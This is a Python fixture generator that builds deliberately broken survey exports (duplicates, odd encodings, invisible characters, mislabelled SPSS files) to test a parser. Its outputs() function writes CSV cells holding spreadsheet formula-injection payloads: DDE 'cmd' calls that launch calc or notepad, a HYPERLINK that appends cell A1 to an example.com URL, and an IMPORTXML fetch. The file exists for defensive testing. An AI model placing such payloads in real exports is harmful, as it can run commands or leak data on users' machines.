"""Write the hostile survey exports and output tables of this folder (test fixtures; SIMULATED answers).

Each survey file is one of the six made-up respondents' sample exports (``data/raw/survey/samples``,
the same respondents as ``expected.csv``) broken the way real exports break: submitted twice,
appended, saved by Excel as "Unicode text", given the wrong file ending, labelled only at the
reversed ends of a scale in SPSS, and so on. The output tables hold text that a spreadsheet would
run as a formula. ``cases.yml`` says what reading each one must give; ``tests/test_hostile_survey.py``
checks it. Files too big or too odd to commit (a 20 MB line, a symbolic-link loop) are made by the test.
Run from the project root: ``.venv/bin/python tests/data/hostile/survey/make_files.py``.
"""

from __future__ import annotations

import codecs
from pathlib import Path

import pandas as pd
import pyreadstat
from openpyxl import Workbook

from helpers.survey import SAMPLES_DIR, load_codebook, match_header, write_sav

HERE = Path(__file__).resolve().parent
CB = load_codebook()
EXPECTED = pd.read_csv(SAMPLES_DIR / "expected.csv", dtype=str, keep_default_na=False)
LIKERT = ["sha1", "sha3", "str3", "inc1"]


def lines(name: str, encoding: str = "utf-8") -> list[str]:
    return (SAMPLES_DIR / name).read_text(encoding=encoding).splitlines()


def write_lines(name: str, rows: list[str], encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(("\n".join(rows) + "\n").encode(encoding))


def tidy() -> pd.DataFrame:
    """expected.csv with numbers as numbers (blank → missing)."""
    frame = EXPECTED.replace("", None)
    for column in frame.columns[6:]:
        frame[column] = pd.to_numeric(frame[column]).astype("Int64")
    return frame


# --------------------------------------------------------------------------- respondents twice

def resubmitted() -> None:
    plain = lines("plain_codes.csv")
    write_lines("resubmitted_same_id.csv", plain + [plain[2]])  # respondent 2 again, same answers
    # respondent "1" again as "１" (full-width digit): the same person once ids are compared as text
    write_lines("fullwidth_id_twice.csv", plain + ["\uff11" + plain[1][1:]])
    # ids and codes written with full-width digits, no-break and zero-width spaces: still respondents 1–6
    ids = ["\uff11", "2\u00a0", "\u200b3", "\uff14", " 5\u200b", "\uff16"]
    rows = [plain[0]]
    for rid, line in zip(ids, plain[1:]):
        cells = line.split(",")
        cells[0] = rid
        cells[12] = cells[12].translate(str.maketrans("0123456789", "０１２３４５６７８９"))  # sha1
        cells[13] = cells[13] + "\u200b"  # sha3
        cells[14] = "\u00a0" + cells[14]  # str3
        rows.append(",".join(cells))
    write_lines("fullwidth_ids_and_codes.csv", rows)


def wenjuanxing() -> None:
    text = lines("wjx_text.csv", "gb18030")
    # two overlapping downloads appended: rows 1–4, then the header again and rows 3–6 (序号 3 and 4 twice)
    write_lines("wjx_overlapping_exports.csv", text[:5] + [text[0]] + text[3:], "gb18030")
    code = lines("wjx_code.csv", "gb18030")
    again = code[5].split(",")  # 序号 5 submitted again an hour later, one answer changed (str3: 5 → 4)
    again[1] = "2018/5/4 09:05:19"
    header = code[0].split(",")
    str3 = next(j for j, h in enumerate(header) if "各部门各自为政" in h)
    assert again[str3] == "5"
    again[str3] = "4"
    write_lines("wjx_resubmitted_changed.csv", code + [",".join(again)], "gb18030")
    # answers as positions written with a zero-width space, a no-break space and full-width digits
    rows = [code[0]]
    for line in code[1:]:
        cells = line.split(",")
        cells[6] = cells[6] + "\u200b"
        cells[7] = "\u00a0" + cells[7]
        cells[8] = cells[8].translate(str.maketrans("0123456789", "０１２３４５６７８９"))
        rows.append(",".join(cells))
    write_lines("wjx_code_invisible_characters.csv", rows, "gb18030")


def qualtrics_and_google() -> None:
    q = lines("qualtrics.csv", "utf-8-sig")
    preview = q[3].split(",")
    preview[2], preview[8] = "Survey Preview", "R_previewX"  # the survey maker's own test run
    write_lines("qualtrics_with_preview.csv", q[:3] + [",".join(preview)] + q[3:], "utf-8-sig")
    g = lines("google_forms.csv")
    write_lines("google_forms_row_twice.csv", g[:4] + [g[3]] + g[4:])  # the same submission, same second


# --------------------------------------------------------------------------- SPSS

def spss() -> None:
    write_sav(tidy(), CB, HERE / "spss_reversed_ends.sav")  # the sample, then reshaped below
    data, meta = pyreadstat.read_sav(str(HERE / "spss_reversed_ends.sav"))
    column_labels = dict(zip(meta.column_names, meta.column_labels))
    labels = dict(meta.variable_value_labels)

    def save(frame: pd.DataFrame, name: str, changes: dict[str, dict[float, str]], **kwargs) -> None:
        pyreadstat.write_sav(frame, str(HERE / name), column_labels=column_labels,
                             variable_value_labels=labels | changes, **kwargs)

    # Likert items stored the other way round, only the ends labelled (1 = Strongly agree, 5 = Strongly disagree)
    flipped = data.copy()
    for column in LIKERT:
        flipped[column] = 6 - flipped[column]
    save(flipped, "spss_reversed_ends.sav", {c: {1.0: "Strongly agree", 5.0: "Strongly disagree"} for c in LIKERT})
    # labels that fit neither way (1 = Agree, 5 = Strongly agree) while 2–4 are used unlabelled
    save(data, "spss_labels_fit_neither_way.sav", {"sha1": {1.0: "Agree", 5.0: "Strongly agree"}})
    # respondent 3's sha1 is 9 = "No answer", declared missing in SPSS: missing, not an answer
    nine = data.copy()
    nine.loc[2, "sha1"] = 9
    save(nine, "spss_user_missing.sav", {"sha1": labels["sha1"] | {9.0: "No answer"}}, missing_ranges={"sha1": [9]})
    # the same 9 = "Don't know", not declared missing: an answer outside the scale
    save(nine, "spss_dont_know_not_missing.sav", {"sha1": labels["sha1"] | {9.0: "Don't know"}})
    save(data.iloc[:0], "spss_no_cases.sav", {})


# --------------------------------------------------------------------------- encodings and file types

def encodings_and_types() -> None:
    plain = lines("plain_codes.csv")
    # Excel "Save as Unicode text": UTF-16 LE with a byte-order mark, tab-separated, CRLF
    labels = pd.read_excel(SAMPLES_DIR / "plain_labels.xlsx", dtype=str, engine="openpyxl").fillna("")
    text = "\r\n".join(["\t".join(labels.columns)] + ["\t".join(r) for r in labels.to_numpy()]) + "\r\n"
    (HERE / "excel_unicode_text.txt").write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    (HERE / "utf16_without_bom.txt").write_bytes(text.encode("utf-16-le"))
    (HERE / "csv_named.xlsx").write_bytes((SAMPLES_DIR / "plain_codes.csv").read_bytes())
    (HERE / "xlsx_named.csv").write_bytes((SAMPLES_DIR / "plain_labels.xlsx").read_bytes())
    rows = "".join(f"<tr>{''.join(f'<td>{c}</td>' for c in line.split(','))}</tr>" for line in plain)
    (HERE / "html_named.xls").write_text(f"<html><head><meta charset='utf-8'></head><body><table>{rows}"
                                         "</table></body></html>\n", encoding="utf-8")
    nul = "\n".join(plain) + "\n"
    cut = nul.index("\n3,") + 1
    (HERE / "nul_bytes.csv").write_bytes(nul[:cut].encode() + b"\x00" * 64 + nul[cut:].encode())
    (HERE / "empty.csv").write_bytes(b"")
    write_lines("header_only.csv", plain[:1])
    out = plain[:3] + [plain[3].replace(",4,2,3,3,", ",4,2,6,3,")] + plain[4:]  # str3 = 6 on a 1–5 scale
    assert out != plain
    write_lines("out_of_scale_six.csv", out)
    write_lines("na_text_in_codes.csv", plain[:2] + [plain[2].replace(",3,4,4,2,", ",3,N/A,4,2,")] + plain[3:])


def excel_two_headers() -> None:
    """Item ids over the Chinese wording, the respondents, an empty row, then a 合计 (totals) row."""
    frame = tidy()
    wording = []
    for column in frame.columns:
        if column == "respondent_id":
            wording.append("编号")
            continue
        item = CB.item_of_column(column)
        text = item.text_zh
        if "__" in column:
            text = f"{item.text_zh} - {item.scale.level(column.split('__')[1]).zh}"
        assert match_header(text, CB) is not None and match_header(text, CB).column == column, column
        wording.append(text)
    book = Workbook()
    sheet = book.active
    sheet.append(list(frame.columns))
    sheet.append(wording)
    for record in frame.astype(object).to_numpy().tolist():
        sheet.append([None if pd.isna(v) else v for v in record])
    sheet.append([None] * len(frame.columns))
    totals = ["合计"] + [None] * 5 + [int(frame[c].sum()) for c in frame.columns[6:]]
    sheet.append(totals)
    book.save(HERE / "excel_two_headers_and_totals.xlsx")


# --------------------------------------------------------------------------- outputs: formula text

def outputs() -> None:
    pd.DataFrame({
        "customer_name": ['=HYPERLINK("http://example.com/x?c="&A1,"Refund")', "@SUM(1+1)*cmd|' /C calc'!A0",
                          "+86 138 0013 8000", "王小明", "-", "Anna Müller"],
        "orders": [3, 1, 2, 5, 1, 4],
        "net_revenue": [129.5, -40.0, 0.0, 1999.0, -12.5, 88.8],
    }).to_csv(HERE / "output_customer_names.csv", index=False)
    pd.DataFrame({
        "product": ["=1+1", "小米 13 Ultra", "=cmd|' /C notepad'!'A1'", "+ Plus membership", "-5% coupon", "-12"],
        "units": [2, 10, 1, 3, 7, 1],
        "revenue": [-3.5, 59990.0, 1.0, 297.0, -35.0, 12.0],
    }).to_csv(HERE / "output_products.csv", index=False)
    pd.DataFrame({
        "post": ["\t=2+5 hidden behind a tab", "\r=2+5 behind a carriage return", "@mention the MIUI team",
                 "-2+3 people agree", "新品发布会什么时候？", "=IMPORTXML(\"http://example.com\",\"//a\")"],
        "likes": [0, 12, 3, -1, 40, 2],
    }).to_csv(HERE / "output_posts.csv", index=False, lineterminator="\r\n")  # CRLF: the CR cell is quoted


if __name__ == "__main__":
    resubmitted()
    wenjuanxing()
    qualtrics_and_google()
    spss()
    encodings_and_types()
    excel_two_headers()
    outputs()
